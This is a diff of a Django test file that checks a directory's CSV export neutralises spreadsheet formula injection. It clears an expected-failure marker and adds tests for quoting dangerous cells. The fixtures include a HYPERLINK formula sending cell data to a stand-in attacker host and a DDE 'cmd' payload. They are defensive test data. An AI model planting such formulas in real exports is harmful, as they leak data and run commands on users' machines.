@@ -21,10 +21,6 @@ pytestmark = pytest.mark.django_db
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="ATTACK-7: HSDS tabular CSV export writes editor-supplied names as live formulas",
-)
 def test_the_tabular_export_defuses_spreadsheet_formulas(tmp_path: Path) -> None:
     ServiceFactory(name=FORMULA)
     export_tabular(tmp_path)
@@ -98,3 +94,12 @@ def test_my_list_never_redirects_off_site(client: Client, target: str) -> None:
 def test_a_shared_list_token_that_does_not_exist_reveals_nothing(client: Client) -> None:
     response = client.get("/my-list/shared/not-a-real-token/")
     assert response.status_code == 404
+
+
+def test_the_tabular_export_keeps_signed_numbers_and_phone_numbers_as_data() -> None:
+    from linkwork.directory.hsds.tabular import _cell
+
+    assert _cell("-3.1883") == "-3.1883"
+    assert _cell("+44 (0)131 496 0000") == "+44 (0)131 496 0000"
+    assert _cell("-cmd|' /C calc'!A0") == "'-cmd|' /C calc'!A0"
+    assert _cell("@SUM(1+1)") == "'@SUM(1+1)"
